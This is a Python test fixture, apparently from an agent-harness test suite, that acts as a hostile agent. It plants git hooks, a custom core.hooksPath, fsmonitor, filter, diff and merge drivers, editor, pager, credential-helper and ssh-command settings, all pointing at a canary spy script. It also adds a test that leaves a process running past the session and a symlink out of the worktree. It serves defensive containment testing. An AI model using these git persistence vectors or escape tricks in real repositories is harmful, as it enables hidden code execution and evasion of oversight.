"""A hostile `cmd:` agent (unconfined, as `cmd:` agents are by default): it plants every
program git could run for specflow — hooks in the repository and in a `core.hooksPath` of its
own, `core.fsmonitor`, filter/diff/merge drivers switched on by `.gitattributes` and
`info/attributes`, editors, pagers, signing — then does its task, adds a test that leaves a
process running, and a symlink out of the worktree. Each planted program touches
OUT/PWNED-<what> (and logs who ran it to OUT/../spy.log).

Usage: cmd:python plant_agent.py OUT MARK   (MARK names the background process)
"""

import os
import pathlib
import subprocess
import sys

out = pathlib.Path(sys.argv[1])
mark = sys.argv[2]
tid = os.environ["SPECFLOW_TASK_ID"]
spy = out.parent / "spy.sh"
spy.write_text(
    "#!/bin/sh\n"
    'gp=$(ps -o ppid= -p $PPID | tr -d " "); who=$(ps -o args= -p $gp | cut -c1-250)\n'
    f'echo "$1: $who" >> {out.parent}/spy.log\n'
    f'touch "{out}/PWNED-$1"\n'
    "cat\n"
)
spy.chmod(0o755)


def plant(what: str) -> str:
    return f"{spy} {what}"


def git(*args: str) -> None:
    subprocess.run(["git", *args], check=False, capture_output=True)


common = subprocess.check_output(["git", "rev-parse", "--git-common-dir"], text=True).strip()
common_dir = pathlib.Path(common).resolve()
hooks = [
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "post-checkout",
    "post-merge",
    "post-rewrite",
    "pre-rebase",
    "reference-transaction",
    "pre-auto-gc",
    "pre-push",
    "post-index-change",
    "pre-merge-commit",
    "push-to-checkout",
    "fsmonitor-watchman",
]
own_hooks = out.parent / "hooks"
for folder in (common_dir / "hooks", own_hooks):
    folder.mkdir(parents=True, exist_ok=True)
    for h in hooks:
        (folder / h).write_text(f"#!/bin/sh\n{plant('hook-' + h)} </dev/null\n")
        (folder / h).chmod(0o755)
git("config", "core.hooksPath", str(own_hooks))
git("config", "core.fsmonitor", plant("fsmonitor"))
git("config", "filter.evil.clean", plant("clean"))
git("config", "filter.evil.smudge", plant("smudge"))
git("config", "filter.evil.required", "true")
git("config", "diff.evil.textconv", plant("textconv"))
git("config", "diff.evil.command", plant("diffcommand"))
git("config", "merge.evil.driver", plant("mergedriver"))
for key in [
    "core.editor",
    "sequence.editor",
    "core.pager",
    "diff.external",
    "gpg.program",
    "core.sshCommand",
    "credential.helper",
    "core.askPass",
    "core.alternateRefsCommand",
    "pager.log",
    "pager.show",
    "pager.diff",
]:
    git("config", key, plant(key.replace(".", "-")))
git("config", "commit.gpgSign", "true")
(common_dir / "info").mkdir(exist_ok=True)
(common_dir / "info" / "attributes").write_text("* filter=evil diff=evil merge=evil\n")
pathlib.Path(".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")

pathlib.Path(f"{tid}.txt").write_text(f"{tid}\n")
pathlib.Path(f"test_{tid.lower()}.py").write_text(
    "import subprocess\nimport unittest\n\n"
    f"subprocess.Popen(['sh', '-c', 'while true; do sleep 0.2; done; : {mark}'],"
    " start_new_session=True)\n\n\n"
    "class T(unittest.TestCase):\n    def test_ok(self) -> None:\n        pass\n"
)
if not os.path.lexists("outlink"):
    os.symlink(str(out), "outlink")
